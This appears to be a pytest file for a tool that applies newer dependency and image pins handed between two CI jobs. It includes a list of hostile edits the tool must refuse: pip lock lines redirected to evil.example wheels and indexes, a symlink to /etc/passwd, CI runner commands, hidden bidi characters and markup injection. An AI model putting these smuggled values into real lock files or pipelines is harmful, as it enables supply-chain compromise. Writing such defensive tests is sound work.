"""The folder with newer pins, between the job that computes them and the one that may write."""

from __future__ import annotations

import os
import re
import shutil
import subprocess
from collections.abc import Callable
from pathlib import Path

import pytest

from lab import pins
from provisioning.base.errors import CheckFailed
from provisioning.base.settings import MANIFESTS
from tests.support.repositories import repository

LOCK, PACKAGES, IMAGES = "manifests/locks/nox.txt", "manifests/image-packages.txt", "manifests/images.toml"
FAULTS = "manifests/known_faults.toml"
HASH = "0" * 64
KEPT = (LOCK, "manifests/locks/llm.txt", "manifests/torch/index.txt", PACKAGES, IMAGES, FAULTS)
OTHERS = ("manifests/gate.toml", "manifests/profiles/wheels.toml", "manifests/wheels.json")


@pytest.fixture(scope="module")
def first(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """A repository with this one's own manifests."""
    files = {name: (MANIFESTS.parent / name).read_text(encoding="utf-8") for name in (*KEPT, *OTHERS)}
    return repository(tmp_path_factory.mktemp("first"), {**files, "noxfile.py": "import nox\n"})


@pytest.fixture
def root(first: Path, tmp_path: Path) -> Path:
    return Path(shutil.copytree(first, tmp_path / "root"))


@pytest.fixture(scope="module")
def handed_over(first: Path, tmp_path_factory: pytest.TempPathFactory) -> Path:
    """What the first job hands over: every kind of file that it writes, with other versions and hashes."""
    folder = tmp_path_factory.mktemp("newer")
    root = Path(shutil.copytree(first, folder / "root"))
    edit(root / LOCK, "argcomplete==3.7.2", "argcomplete==3.8.0")
    edit(root / LOCK, "6029205678bdd9c1c728a155f5f9ecf5812393f969eef58807641a2bc2aa5b19", HASH)
    edit(root / "manifests/torch/index.txt", "cuda-bindings==13.4.4", "cuda-bindings==13.5.0")
    edit(root / PACKAGES, "binutils 2.40-2 ", "binutils 2.41-1~deb12u1 ")
    (snapshot,) = re.findall("^# snapshot: .+", (root / PACKAGES).read_text(encoding="utf-8"), re.MULTILINE)
    edit(root / PACKAGES, snapshot, "# snapshot: 20270127T000000Z")
    edit(root / IMAGES, "bookworm-20250520-slim", "bookworm-20261116-slim")
    edit(root / IMAGES, "90522eeb7e5923ee2b871c639059537b30521272f10ca86fdbbbb2b75a8c40cd", HASH)
    edit(root / IMAGES, "epoch = 1747699200", "epoch = 1794787200")
    edit(root / FAULTS, 'versions = ">=2.48,<2.51"', 'versions = ">=2.48,<2.51,<2.50.41"')
    pins.write(folder / "pins", root)
    return folder / "pins"


@pytest.fixture
def newer(handed_over: Path, tmp_path: Path) -> Path:
    return Path(shutil.copytree(handed_over, tmp_path / "pins"))


def edit(file: Path, old: str, new: str) -> None:
    text = file.read_text(encoding="utf-8")
    assert old in text, (file, old)
    file.write_text(text.replace(old, new), encoding="utf-8")


def git(root: Path, *arguments: str) -> str:
    return subprocess.run(["git", *arguments], cwd=root, check=True, capture_output=True, text=True).stdout


def test_what_one_job_writes_the_other_puts_into_place(root: Path, newer: Path) -> None:
    pins.apply(newer, root, None)
    changed = sorted(line[3:] for line in git(root, "status", "--porcelain").splitlines())
    assert changed == sorted([LOCK, "manifests/torch/index.txt", PACKAGES, IMAGES, FAULTS])
    assert (root / LOCK).read_bytes() == (newer / LOCK).read_bytes()


def test_every_file_of_ours_is_what_its_kind_may_be(root: Path, tmp_path: Path) -> None:
    folder = tmp_path / "same"
    locks = [*MANIFESTS.glob("locks/*.txt"), *MANIFESTS.glob("torch/*.txt")]
    for file in [*locks, *(MANIFESTS.parent / name for name in (PACKAGES, IMAGES, FAULTS))]:
        for place in (folder, root):
            copy = place / file.relative_to(MANIFESTS.parent)
            copy.parent.mkdir(parents=True, exist_ok=True)
            shutil.copy(file, copy)
    git(root, "add", "--all")
    pins.apply(folder, root, None)


def test_only_what_is_asked_for_is_handed_over(root: Path, tmp_path: Path) -> None:
    edit(root / LOCK, "argcomplete==3.7.2", "argcomplete==3.8.0")
    edit(root / FAULTS, 'versions = ">=2.48,<2.51"', 'versions = ">=2.48,<2.51,<2.50.41"')
    pins.write(tmp_path / "faults", root, FAULTS)
    handed = [file for file in (tmp_path / "faults").rglob("*") if file.is_file()]
    assert {file.name for file in handed} == {pins.NOTHING, "known_faults.toml"}


def test_where_nothing_is_newer_nothing_changes(root: Path, tmp_path: Path) -> None:
    pins.write(tmp_path / "none", root)
    assert [file.name for file in (tmp_path / "none").iterdir()] == [pins.NOTHING]
    pins.apply(tmp_path / "none", root, None)
    assert git(root, "status", "--porcelain") == ""


def append(name: str, line: str) -> Callable[[Path], object]:
    return lambda folder: (folder / name).write_text((folder / name).read_text() + line)


def change(name: str, old: str, new: str) -> Callable[[Path], object]:
    return lambda folder: edit(folder / name, old, new)


def made(name: str, text: str) -> Callable[[Path], object]:
    def make(folder: Path) -> None:
        (folder / name).parent.mkdir(parents=True, exist_ok=True)
        (folder / name).write_text(text)

    return make


def linked(folder: Path) -> None:
    (folder / LOCK).unlink()
    (folder / LOCK).symlink_to("/etc/passwd")


def piped(folder: Path) -> None:
    (folder / LOCK).unlink()
    os.mkfifo(folder / LOCK)


EVIL: dict[str, Callable[[Path], object]] = {
    "an address for a version": change(
        LOCK, "argcomplete==3.8.0", "argcomplete @ https://evil.example/x.whl"
    ),
    "an address after the hash": change(LOCK, HASH, f"{HASH} https://evil.example/x.whl"),
    "an option of pip": append(LOCK, "--index-url https://evil.example/simple\n"),
    "an option in a comment's place": change(LOCK, "# inputs-sha256:", "--extra-index-url="),
    "another comment": append(LOCK, "# torch: torch==2 --index-url=https://evil.example\n"),
    "no hash": append(LOCK, "evil==1.0 \\\n"),
    "a short hash": change(LOCK, HASH, HASH[:40]),
    "a pin over two lines": change(LOCK, "argcomplete==3.8.0 \\", "argcomplete==3.8.0 \\\n \\"),
    "variables of the gate": made(OTHERS[0], '[row.lint]\nvariables = { PATH = "/tmp" }\n'),
    "another host": made(OTHERS[1], 'url = "https://evil.example"\n'),
    "wheels of a profile": made(OTHERS[2], "{}\n"),
    "a new lock": made("manifests/locks/evil.txt", f"evil==1.0 \\\n    --hash=sha256:{HASH}\n"),
    "another file": made("noxfile.py", "import os\n"),
    "a hidden file": made(".github/workflows/gate.yml", "on: push\n"),
    "a link": linked,
    "a pipe": piped,
    "another image": change(IMAGES, '"debian:bookworm', '"evil:bookworm'),
    "another list of packages": change(IMAGES, '"g++",', '"evil",'),
    "another key": append(IMAGES, 'mirror = "https://evil.example"\n'),
    "a package's address": append(PACKAGES, f"evil https://evil.example/x.deb {HASH}\n"),
    "a command for the runner": append(PACKAGES, "::add-path::/tmp\n"),
    "other versions of a fault": change(FAULTS, "<2.50.41", "<2.50.41,>=1"),
    "another command of a fault": change(FAULTS, 'show = ["', 'show = ["https://evil.example", "'),
    "characters that hide": change(PACKAGES, "# Written", "# \u202eWritten"),
    "a huge file": lambda folder: (folder / LOCK).write_text("#" * (pins.LARGEST + 1)),
    "bytes": lambda folder: (folder / LOCK).write_bytes(b"\xff\n"),
}


@pytest.mark.parametrize("evil", EVIL)
def test_what_may_do_more_than_pin_is_refused_with_all_beside_it(root: Path, newer: Path, evil: str) -> None:
    EVIL[evil](newer)
    with pytest.raises(CheckFailed):
        pins.apply(newer, root, None)
    assert git(root, "status", "--porcelain") == ""


def test_a_file_behind_a_link_stays_as_it_is(root: Path, newer: Path) -> None:
    (root / "locks").mkdir()
    (root / LOCK).rename(root / "locks" / "nox.txt")
    shutil.rmtree(root / "manifests" / "locks")
    (root / "manifests" / "locks").symlink_to("../locks")
    before = (root / "locks" / "nox.txt").read_bytes()
    with pytest.raises(CheckFailed):
        pins.apply(newer, root, None)
    assert (root / "locks" / "nox.txt").read_bytes() == before


def test_the_text_names_new_packages_and_shows_the_rest_as_text(
    root: Path, newer: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    text = tmp_path / "table.md"
    text.write_text("| a | <img src=x> @owner [x](https://evil.example) \x1b[31m |\n::error::forged\n")
    edit(newer / LOCK, "attrs==26.1.0", "attrz==26.1.0")
    pins.apply(newer, root, text)
    page = text.read_text(encoding="utf-8")
    assert f"- {LOCK}: new: attrz" in page and f"- {LOCK}: gone: attrs" in page
    assert "attrz" in capsys.readouterr().out
    assert not [word for word in ("<img", "@owner", "](https", "\x1b") if word in page]
    assert "\n::error" not in page
    text.write_text("x" * (pins.LARGEST_TEXT + 1))
    git(root, "checkout", "--quiet", ".")
    with pytest.raises(CheckFailed):
        pins.apply(newer, root, text)
    assert git(root, "status", "--porcelain") == ""
